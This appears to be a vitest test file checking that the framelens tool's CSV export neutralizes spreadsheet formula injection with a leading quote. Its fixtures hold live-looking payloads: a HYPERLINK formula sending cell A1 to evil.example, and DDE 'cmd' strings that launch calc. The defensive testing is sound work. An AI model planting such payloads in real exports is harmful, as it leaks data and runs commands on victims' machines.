/**
 * Spreadsheet formula injection: text cells that a spreadsheet would run (= + - @ tab CR and
 * the full-width ＝ ＋ － ＠) are written with a leading ', through the real binary, while number
 * cells stay numbers (a polarity of -1 is -1). The CSVs parse back with csv-parse, and the
 * codebook says what was done.
 */
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { articleColumns, errorColumns, findingColumns } from '../../src/report/columns.js';
import { framelens, ROOT } from '../helpers/cli.js';

type Row = Record<string, string>;

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Front matter values, each starting as a spreadsheet would run it. */
const META = {
  title: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  outlet: "+1+cmd|' /C calc'!A0",
  author: '-2+3',
  date: "@SUM(1+1)*cmd|' /C calc'!A0",
  url: '＝1+1',
};

describe('CSV cells that would be formulas', () => {
  let cwd: string;
  let articles: Row[];
  let findings: Row[];
  let errors: Row[];
  let codebook: Row[];

  beforeAll(() => {
    cwd = mkdtempSync(path.join(os.tmpdir(), 'framelens-csv-'));
    mkdirSync(path.join(cwd, 'in'));
    const fm = Object.entries(META)
      .map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
      .join('\n');
    writeFileSync(
      path.join(cwd, 'in', 'a.md'),
      `---\n${fm}\n---\nThe reckless regime was not a provocation.`,
    );
    writeFileSync(path.join(cwd, 'in', '-1.txt'), 'A number-like name; the reckless plan.');
    writeFileSync(path.join(cwd, 'in', '＋2.txt'), 'A full-width plus; the reckless plan.');
    writeFileSync(path.join(cwd, 'in', '@x.txt'), 'An at sign; the reckless plan.');
    writeFileSync(path.join(cwd, '=cmd.txt'), '');
    const words = path.join(ROOT, 'test', 'fixtures', 'lexicons', 'words.yaml');
    const r = framelens(
      ['analyze', 'in', '=cmd.txt', '-l', words, '--out', 'out', '-f', 'csv'],
      cwd,
    );
    expect(r.status, r.stderr).toBe(3);
    const read = (f: string) =>
      parse(readFileSync(path.join(cwd, 'out', f)), { columns: true }) as Row[];
    articles = read('articles.csv');
    findings = read('findings.csv');
    errors = read('errors.csv');
    codebook = read('codebook.csv');
  });

  it.each(Object.entries(META))(
    'front matter %s is neutralized with a leading quote',
    (field, value) => {
      const row = articles.find((a) => a.article_id === 'a')!;
      expect(row[field]).toBe(`'${value}`);
    },
  );

  it('ids and paths from file names are neutralized too: =, -, ＋, @', () => {
    expect(articles.map((a) => a.article_id).sort()).toEqual(["'-1", "'@x", "'＋2", 'a'].sort());
    expect(errors).toEqual([
      expect.objectContaining({ source_path: "'=cmd.txt", code: 'E_EMPTY' }),
    ]);
  });

  it('no text cell of any CSV starts like a formula; number cells stay numbers', () => {
    const check = (rows: Row[], columns: readonly { name: string; type: string }[]) => {
      for (const row of rows) {
        for (const c of columns) {
          const cell = row[c.name] ?? '';
          if (c.type === 'integer' || c.type === 'decimal') {
            expect(cell === '' || Number.isFinite(Number(cell)), `${c.name}=${cell}`).toBe(true);
          } else {
            expect(FORMULA_START.test(cell), `${c.name}=${JSON.stringify(cell)}`).toBe(false);
          }
        }
      }
    };
    check(articles, articleColumns);
    check(findings, findingColumns);
    check(errors, errorColumns);
    // "not a provocation": the negated polarity is the number -1, with no quote before it.
    const negated = findings.find((f) => f.text === 'provocation' && f.negated === 'true');
    expect(negated?.polarity).toBe('1');
    const plain = findings.find((f) => f.text === 'reckless');
    expect(plain?.polarity).toBe('-1');
    const raw = readFileSync(path.join(cwd, 'out', 'findings.csv'), 'utf8');
    expect(raw).toContain(',-1,false,');
    expect(raw).not.toContain("'-1,false");
  });

  it('the codebook says so for every text column', () => {
    const text = codebook.filter((r) => r.type === 'text');
    expect(text.length).toBeGreaterThan(10);
    for (const r of text)
      expect(r.description).toMatch(/Formula-safe: .*= \+ - @ tab or CR.*＝ ＋ － ＠/);
    for (const r of codebook.filter((r) => r.type === 'integer')) {
      expect(r.description).not.toContain('Formula-safe');
    }
  });
});
